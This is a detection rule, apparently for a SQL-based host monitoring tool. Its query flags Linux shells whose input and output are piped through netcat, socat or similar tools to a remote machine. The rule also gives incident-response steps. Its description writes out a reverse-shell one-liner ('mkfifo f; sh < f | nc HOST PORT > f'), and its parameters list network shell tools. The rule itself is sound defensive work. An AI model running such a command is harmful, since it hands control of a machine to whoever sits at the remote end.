-- title: Shell that talks to the network through a tool
-- severity: high
-- description: The standard input and output of a shell go through pipes to netcat, socat or a similar tool that is
--   connected to another machine: `mkfifo f; sh < f | nc HOST PORT > f` and `socat … exec:sh` look so. Whoever is at the
--   other end types commands here.
-- platform: linux
-- tags: intrusion, attack.T1059.004, attack.T1071
-- requires: root
-- param: shells text 'sh, bash, rbash, dash, ash, zsh, ksh, ksh93, mksh, lksh, pdksh, fish, csh, tcsh, busybox, toybox,
--   pwsh, yash' Shells: patterns of the file names of programs.
-- param: tools text 'nc, nc.*, ncat, netcat, netcat.*, cryptcat, socat*, telnet, telnet.*, openssl, busybox, toybox,
--   chisel*, gost, websocat' Tools: patterns of the file names of programs.
-- key: path, user, tool_path, remote_address
-- message: {process} (pid {pid}, user {user}) takes its commands from {remote_address} port {remote_port} through {tool}
--   (pid {tool_pid})
-- fix: It is an incident: keep the machine as it is, note what is open (sqlports run open-files --pid PID), cut it off from
--   the network, and find out by which process it was started.
-- references: https://attack.mitre.org/techniques/T1059/004/ https://man7.org/linux/man-pages/man3/mkfifo.3.html
-- false_positives: A script that talks with a server through netcat and reads its answers from a pipe.
WITH remote AS MATERIALIZED (
  SELECT t.pid, t.name, t.path, s.protocol, s.remote_address, s.remote_port
  FROM processes t
    CROSS JOIN handles h ON h.pid = t.pid AND h.type = 'socket'
    CROSS JOIN sockets s ON s.inode = h.inode
  WHERE listed(basename(t.path), :tools)
    AND s.protocol IN ('tcp', 'udp', 'sctp', 'mptcp', 'vsock') AND s.remote_port IS NOT NULL AND s.ulp IS NOT 'mptcp'
),
-- What the tool writes arrives there: at once, or through a filter that writes on (cat).
fed (tool, pid) AS (
  SELECT r.pid, h.peer_pid FROM remote r CROSS JOIN handles h ON h.pid = r.pid AND h.type IN ('pipe', 'socket')
  WHERE h.peer_pid IS NOT NULL AND h.access IN ('w', 'rw')
  UNION
  SELECT r.pid, g.peer_pid
  FROM remote r
    CROSS JOIN handles h ON h.pid = r.pid AND h.type = 'pipe'
    CROSS JOIN handles g ON g.pid = h.peer_pid AND g.fd = 1 AND g.type = 'pipe'
  WHERE h.access IN ('w', 'rw') AND g.peer_pid IS NOT NULL
  UNION
  -- By a terminal that the tool made for it: `socat … exec:sh,pty`.
  SELECT r.pid, p.pid FROM remote r CROSS JOIN processes p ON p.parent = r.pid WHERE p.tty IS NOT NULL
)
SELECT p.name AS process, p.pid, p.path, (SELECT username FROM users u WHERE u.uid = p.euid) AS user, p.unit,
  p.container_id AS container, r.name AS tool, r.pid AS tool_pid, r.path AS tool_path, r.protocol, r.remote_address,
  r.remote_port
FROM fed f
  CROSS JOIN processes p ON p.pid = f.pid
  CROSS JOIN handles o ON o.pid = p.pid AND o.fd = 1 AND o.tid IS NULL AND o.peer_pid = f.tool
  CROSS JOIN remote r ON r.pid = f.tool
WHERE listed(basename(p.path), :shells)
GROUP BY p.pid, r.pid, r.protocol, r.remote_address, r.remote_port
ORDER BY p.pid, r.pid, r.remote_address, r.remote_port;
